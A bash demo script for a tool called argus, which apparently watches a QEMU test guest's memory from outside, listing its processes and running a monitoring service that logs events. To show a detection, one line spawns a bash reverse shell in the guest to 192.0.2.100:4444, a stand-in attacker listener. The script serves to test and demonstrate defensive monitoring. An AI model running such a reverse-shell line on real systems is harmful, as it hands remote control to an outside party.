#!/usr/bin/env bash
# demo.sh ARGUS - boot the test guest and watch it from outside.
set -euo pipefail
argus=$1
here=$(cd "$(dirname "$0")" && pwd)
g="python3 $here/guest.py"
name=demo
trap '$g stop $name >/dev/null 2>&1 || true' EXIT
echo "== booting the test guest (QEMU TCG, RAM in /dev/shm/argus-${ARGUS_GUEST_PREFIX:-}$name.ram)"
$g start $name
ram=/dev/shm/argus-${ARGUS_GUEST_PREFIX:-}$name.ram
echo; echo "== what argus finds in the guest's memory, with no symbol files"
"$argus" info --source qemu:$ram
echo; echo "== the guest's processes, read from outside"
"$argus" ps --source qemu:$ram
echo; echo "== a process started in the guest appears in the next read"
pid=$($g spawn $name -- 'sleep 600')
"$argus" ps --source qemu:$ram | awk -v p="$pid" 'NR==1 || $1==p'
echo; echo "== the service: scanning while the guest works, and is attacked"
dir=$(mktemp -d)
cat >"$dir/argus.yaml" <<YAML
service:
  scanner_sleep: 500ms
argus:
  systems:
    - name: $name
      source: qemu:$ram
output:
  stdout: false   # events go to the log below; true writes each as a JSON line here too
  log_folder: $dir/events
YAML
"$argus" run --config "$dir/argus.yaml" &
svc=$!
sleep 2
$g run $name -- 'sleep 1 & echo started' >/dev/null
# a reverse shell to an attacker on another machine (192.0.2.100:4444, a
# listener QEMU's user-mode network runs for the guest: tests/guest/guest.py)
$g spawn $name -- "bash -c 'exec bash -i >& /dev/tcp/192.0.2.100/4444 0>&1'" >/dev/null
sleep 3
kill -TERM $svc; wait $svc || true
echo; echo "== events written to $dir/events/argus-events.log:"
python3 - "$dir/events/argus-events.log" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    h = json.loads(line)
    a = h["activity_data"]
    det = a.get("process_details", {})
    who = f' pid {det["process_id"]} {det["process_name"]}' if det else ""
    print(f'{h["message_type"]:16} {h["severity"]:8} {a["name"]}{who}')
PY
